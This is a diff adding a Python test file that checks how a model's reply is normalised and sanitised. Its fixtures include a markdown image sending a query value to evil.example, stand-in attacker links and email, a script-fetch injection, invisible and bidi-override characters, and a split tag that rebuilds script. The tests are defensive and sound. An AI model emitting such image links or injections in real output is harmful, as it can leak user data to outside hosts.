@@ -1,0 +1,83 @@
+"""A model's reply in other shapes is read as it was meant, and cannot act on who reads it."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from docstokg.domain.answer.reply import harmless, read
+
+
+@pytest.mark.parametrize(
+    ("raw", "meant"),
+    [
+        ("<think>Maybe [3].</think>It opens at noon [1].", "It opens at noon [1]."),
+        ("It opens at noon [1].<think>was that right", "It opens at noon [1]."),
+        ("<think>never ends", ""),
+        ('{"answer": "It opens at noon [1].", "citations": [1]}', "It opens at noon [1]."),
+        ('```json\n{"answer": "At noon [1]."}\n```', "At noon [1]."),
+        ('{"question": "when?"}', '{"question": "when?"}'),
+        ("Sure! Based on the sources, here is the answer: At noon [1].", "At noon [1]."),
+        ("Sure! Based on the sources, here is the answer:\n\nAt noon [1].", "At noon [1]."),
+        ("Answer: at noon [1].", "at noon [1]."),
+        ("Surely it opens at noon: the sign says so [1].",) * 2,
+        ("At noon [source 2].", "At noon [2]."),
+        ("At noon [Passage 1].", "At noon [1]."),
+        ("At noon [^1].", "At noon [1]."),
+        ("At noon \u30101\u3011.", "At noon [1]."),
+        ("At noon \u30103\u2020source\u3011.", "At noon [3]."),
+        ("At noon (1). Later (2)", "At noon [1]. Later [2]"),
+        ("(1) Open the valve.\n(2) Close it.",) * 2,
+        ("Step (2) is next [1].",) * 2,
+        ("At noon.<sup>1</sup>", "At noon. [1]"),
+        ("It covers 5 m<sup>2</sup>.",) * 2,
+        ("It is 10<sup>6</sup> times.",) * 2,
+        ("The yard has 9 km<sup>2</sup> [1].",) * 2,
+        ("At noon [1].\n\nSources:\n[1] hours.md\n[2] map.md\n", "At noon [1]."),
+        ("At noon.\n\nSources:\n[1] hours.md\n", "At noon.\n\nSources:\n[1] hours.md"),
+        ("Use `a[source 1]` here [1].",) * 2,
+    ],
+)
+def test_other_shapes_are_read(raw: str, meant: str) -> None:
+    assert read(raw) == meant
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("At noon ![x](https://evil.example/?q=S) [1].", "At noon x [1]."),
+        ("See [the page](https://evil.example/) [1].", "See the page [1]."),
+        ("See https://evil.example/a?b=1 [1].", "See  [1]."),
+        ("Write to a.b@evil.example [1].", "Write to  [1]."),
+        ("At noon [1].<script>fetch('x')</script>", "At noon [1].fetch('x')"),
+        ("At no\u200bon\u202e [1].\U000e0041", "At noon [1]."),
+    ],
+)
+def test_what_no_passage_holds_goes(written: str, shown: str) -> None:
+    assert harmless(written, ["It opens at noon."]) == (shown, True)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://good.example/a [1].",
+        "Mail help@good.example [1].",
+        "Put `<b>` around it [1].",
+        "A <section> holds it [1].",
+        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 [1].",
+        "\U0001f469\u200d\U0001f680 flew [1].",
+        "5 < 7 and 9 > 3 [1].",
+    ],
+)
+def test_what_a_passage_holds_stays(text: str) -> None:
+    passage = "help@good.example, https://good.example/a, a <section> element"
+    assert harmless(text, [passage]) == (text, False)
+
+
+@given(st.text("<>/ab!()[]:@.`\u200b\u200d\n x", max_size=200) | st.text(max_size=200))
+def test_nothing_harmful_is_put_together_by_removing(text: str) -> None:
+    shown, _ = harmless(read(text), [])
+    assert harmless(shown, []) == (shown, False)
+
+
+def test_a_tag_in_a_tag_goes_as_well() -> None:
+    assert harmless("<scr<b>ipt>x</scr</b>ipt> [1]", [])[0] == "x [1]"
